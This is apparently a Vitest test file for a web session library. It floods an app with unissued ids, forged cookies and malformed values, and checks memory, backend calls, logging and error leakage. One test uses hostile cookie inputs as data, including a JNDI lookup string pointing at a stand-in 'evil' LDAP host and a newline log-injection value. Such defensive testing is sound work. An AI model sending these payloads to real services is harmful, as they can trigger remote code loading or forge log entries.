import { createHash } from 'node:crypto'
import { inspect } from 'node:util'
import { Session as InspectorSession } from 'node:inspector'
import { describe, expect, onTestFinished, test, vi } from 'vitest'
import { App, Cookies, route } from '../../src/http/index.js'
import { newSessionId } from '../../src/sessions/session/session-id.js'
import {
  BackendStore,
  CookieStore,
  MemoryBackend,
  Session,
  sessions,
  type SessionStore,
} from '../../src/sessions/index.js'
import { listen } from '../sessions/events/event-world.js'
import { newSecret } from '../sessions/secrets.js'
import { hygiene } from '../support/log-hygiene.js'

const NAME = '__Host-session'
const FLOOD = 10_000
const EVENT_KEY = newSecret()

describe('a flood of requests', { timeout: 300_000 }, () => {
  test('10,000 requests with well-formed ids that were never issued leave no record and no memory [DS-01]', async () => {
    const { backend, calls } = counted()
    await using world = shop(new BackendStore(backend))
    // It remembers each key until the end of this file, which would count as a leak.
    const { keep } = hygiene
    hygiene.keep = () => {}
    onTestFinished(() => void (hygiene.keep = keep))
    const flood = async (count: number) => {
      for (let sent = 0; sent < count; sent++) await world.get('/read', newSessionId())
    }
    await flood(1000)
    // The smallest of several: a leak grows each time, other memory of the runtime does not.
    const growths = []
    for (let round = 0; round < 3; round++) {
      const before = await memory()
      await flood((FLOOD - 1000) / 3)
      growths.push((await memory()) - before)
    }
    expect(calls).toEqual({ read: FLOOD })
    expect(backend.size).toBe(0)
    expect(Math.min(...growths) / (FLOOD / 3)).toBeLessThan(64)
  })

  test('10,000 anonymous visits and logouts leave no record, and set no cookie but the clearing one [DS-02]', async () => {
    const { backend, calls } = counted()
    await using world = shop(new BackendStore(backend))
    const cookies = new Set<string>()
    for (let sent = 0; sent < FLOOD / 4; sent++) {
      for (const path of ['/read', '/logout', '/regenerate', '/empty']) {
        const response = await world.get(path, sent % 2 === 0 ? undefined : 'x')
        for (const header of response.headers.getSetCookie()) cookies.add(header)
      }
    }
    expect(calls).toEqual({})
    expect(backend.size).toBe(0)
    const clearing = '__Host-session=; Max-Age=0; Path=/; HttpOnly; Secure; SameSite=Lax'
    expect([...cookies]).toEqual([clearing])
  })

  test('10,000 forged cookies cause no call of the backend, and cost no more than valid ones [DS-03]', async () => {
    const { backend, calls } = counted()
    // Without a cache, a valid cookie is decrypted each time, like a forged one.
    const options = { secret: newSecret(), revocations: backend, openedCacheSize: 0 }
    const store = new CookieStore(options)
    await using world = shop(store)
    const login = await world.get('/write')
    const good = login.headers
      .getSetCookie()[0]!
      .slice(NAME.length + 1)
      .split(';')[0]!
    // One changed character of the text, of the tag and of the nonce; each reaches the cipher.
    const forged = Array.from({ length: FLOOD }, (_, n) =>
      changed(good, 8 + (n % (good.length - 9))),
    )
    expect(new Set(forged).has(good)).toBe(false)
    using listening = listen()
    const statuses = new Set<number>()
    for (const value of forged) statuses.add((await world.get('/read', value)).status)
    expect([...statuses]).toEqual([200])
    expect(calls).toEqual({})
    const kinds = listening.events
      .filter(({ type }) => type === 'refused')
      .map(({ reason }) => reason)
    expect(kinds).toHaveLength(FLOOD)
    expect(kinds.filter((reason) => reason !== 'tampered' && reason !== 'malformed')).toEqual([])

    const opening = (value: string) => async () => {
      for (let count = 0; count < 300; count++) await store.load(new Cookies(`${NAME}=${value}`))
    }
    const [costOfGood, costOfForged] = await cheapest(opening(good), opening(forged[20]!))
    expect(costOfForged).toBeLessThan(costOfGood! * 3)
  })

  test('10,000 bad cookies print nothing, and each event has a keyed hash of its cookie [LG-06, LG-05]', async () => {
    const printed: unknown[][] = []
    const write = (...given: unknown[]) => (printed.push(given), true)
    const spies = (['stdout', 'stderr'] as const).map((stream) =>
      vi.spyOn(process[stream], 'write').mockImplementation(write),
    )
    for (const method of ['log', 'warn', 'error'] as const)
      spies.push(vi.spyOn(console, method).mockImplementation(write as never) as never)
    onTestFinished(() => spies.forEach((spy) => spy.mockRestore()))
    await using world = shop(new BackendStore(new MemoryBackend()))
    using listening = listen()
    const hostile = ['${jndi:ldap://evil}', '%0aFAKE LINE', '\u001b[31mred', 'x'.repeat(8192)]
    const bad = Array.from({ length: FLOOD }, (_, n) => `${n}${hostile[n % hostile.length]}`)
    for (const value of bad) await world.get('/read', value)
    expect(printed).toEqual([])
    const refused = listening.events.filter(({ type }) => type === 'refused')
    expect(new Set(refused.map(({ session }) => session)).size).toBe(FLOOD)
    const text = JSON.stringify(listening.events)
    expect(hostile.filter((each) => text.includes(each))).toEqual([])
    // With a key: a reader of the log cannot test which cookie it was.
    const plain = createHash('sha256').update(bad[0]!).digest()
    for (const encoding of ['hex', 'base64', 'base64url'] as const)
      expect(text).not.toContain(plain.toString(encoding).slice(0, 12))
  })
})

test('the response to a failed request shows nothing of the failure in head or body [LG-04]', async () => {
  const secret = 'redis://:planted-password@10.0.0.7:6379/ key planted-key'
  const backend = new MemoryBackend()
  backend.read = () => Promise.reject(new Error(secret, { cause: new TypeError(secret) }))
  const heard: unknown[] = []
  await using world = shop(new BackendStore(backend), (error) => void heard.push(error))
  for (const [path, value, status] of [
    ['/read', newSessionId(), 503],
    ['/fail', undefined, 500],
    ['/unstorable', undefined, 500],
  ] as const) {
    const response = await world.get(path, value)
    expect(response.status).toBe(status)
    const answer = `${inspect([...response.headers])}${await response.text()}`
    expect(answer).not.toMatch(/planted|redis|10\.0\.0|at .*\.[jt]s|Error:|cart/i)
  }
  expect(heard).toHaveLength(3)
})

/** An application with every failure that a visitor can cause. */
function shop(store: SessionStore, onError: (error: unknown) => void = () => {}) {
  const app = new App({
    components: [sessions(store, { onWarning: () => {}, eventKey: EVENT_KEY })],
    onError,
    routes: [
      route.get('/read', [Session], (session) => session.has('user')),
      route.get('/logout', [Session], (session) => session.destroy()),
      route.get('/regenerate', [Session], (session) => session.regenerate()),
      route.get('/empty', [Session], (session) => session.clear()),
      route.get('/write', [Session], (session) => void session.set('user', 'ada')),
      route.get('/unstorable', [Session], (session) => void session.set('cart', new Map())),
      route.get('/fail', [], () => {
        throw new Error('planted in a handler', { cause: 'planted' })
      }),
    ],
  })
  return {
    get: async (path: string, value?: string) => {
      const headers = value === undefined ? {} : { cookie: `${NAME}=${value}` }
      return app.fetch(new Request(`https://shop.test${path}`, { headers }))
    },
    [Symbol.asyncDispose]: () => app.close(),
  }
}

/** A backend that counts its calls. */
function counted() {
  const calls: Record<string, number> = {}
  const backend = new MemoryBackend()
  for (const name of ['read', 'create', 'replace', 'touch', 'destroy'] as const) {
    const asked = backend[name].bind(backend) as (...given: unknown[]) => never
    backend[name] = (...given: unknown[]) => {
      calls[name] = (calls[name] ?? 0) + 1
      return asked(...given)
    }
  }
  return { backend, calls }
}

function changed(token: string, at: number): string {
  return token.slice(0, at) + (token[at] === 'A' ? 'B' : 'A') + token.slice(at + 1)
}

/** Bytes in use after garbage collection. */
async function memory(): Promise<number> {
  const inspector = new InspectorSession()
  inspector.connect()
  for (let time = 0; time < 2; time++) {
    await new Promise<void>((resolve) =>
      inspector.post('HeapProfiler.collectGarbage', () => resolve()),
    )
  }
  inspector.disconnect()
  return process.memoryUsage().heapUsed
}

/** The smallest CPU time of each work over several rounds. */
async function cheapest(...works: (() => Promise<void>)[]): Promise<number[]> {
  const least = works.map(() => Infinity)
  for (let round = 0; round < 9; round++) {
    for (const [index, work] of works.entries()) {
      const start = process.cpuUsage()
      await work()
      const { user, system } = process.cpuUsage(start)
      least[index] = Math.min(least[index]!, user + system)
    }
  }
  return least
}
